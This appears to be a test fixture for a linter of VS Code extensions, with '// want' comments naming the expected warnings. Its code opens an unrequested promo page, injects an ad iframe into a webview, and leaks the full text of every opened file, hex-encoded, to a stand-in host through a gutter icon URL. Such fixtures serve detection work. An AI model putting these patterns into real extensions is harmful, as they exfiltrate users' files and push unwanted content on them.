// Pages of others that nobody asked for: opened, framed, and asked for a picture beside each line.
exports.start = (context, vscode) => {
  if (context.globalState.get('n') > 9) vscode.env.openExternal(vscode.Uri.parse('https://promo.fixture.invalid/?ref=1')); // want "a page is opened in the browser, .*promo.fixture.invalid"
  vscode.window.onDidChangeActiveTextEditor((e) => {
    const mark = vscode.window.createTextEditorDecorationType({
      gutterIconPath: vscode.Uri.parse('https://gutter.fixture.invalid/g.png?d=' + Buffer.from(e.document.getText()).toString('hex')), // want "the text of files or documents .* goes, .*gutter.fixture.invalid"
    });
    e.setDecorations(mark, []);
  });
  vscode.window.registerWebviewViewProvider('untold.v', {
    resolveWebviewView(view) {
      view.webview.html = `<script>const f=document.createElement('iframe');f.src='https://ads.fixture.invalid/slot?id=9'</script>`; // want "markup in the code loads from .ads.fixture.invalid."
    },
  });
};
